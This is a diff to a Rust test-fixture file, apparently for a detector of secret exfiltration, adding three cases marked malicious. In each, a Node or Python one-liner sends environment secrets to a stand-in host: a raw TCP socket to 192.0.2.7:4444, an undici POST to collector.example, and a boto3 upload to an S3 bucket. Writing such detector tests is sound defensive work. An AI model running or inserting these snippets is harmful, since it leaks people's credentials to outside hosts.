@@ -1061,6 +1061,35 @@ t.sendMail({to:'x@collector.example',text:process.env.A+process.env.B})"##,
         place: "collector.example",
         verdict: Verdict::Malicious,
     },
+    Way {
+        name: "js a connection written to in its own callback",
+        shell: "node {0}",
+        script: r##"const s=require('net').connect(4444,[192,0,2,7].join('.'),()=>{ s.write(process.env.A+process.env.B); s.end() })"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "192.0.2.7",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "js a client by its import",
+        shell: "node {0}",
+        script: r##"import { request } from 'undici';
+await request('https://collector.example/in',{method:'POST',body:process.env.A+process.env.B})"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "py a bucket by a key of the file's own",
+        shell: "python",
+        script: r##"import os,boto3
+boto3.client("s3",aws_access_key_id="AKIAPLACEHOLDER00000",aws_secret_access_key="x").put_object(Bucket="drop-of-x",Key="o",Body=os.environ["A"]+os.environ["B"])"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "drop-of-x.s3.amazonaws.com",
+        verdict: Verdict::Malicious,
+    },
 ];
 
 /// What people do with their own secrets in the same words.
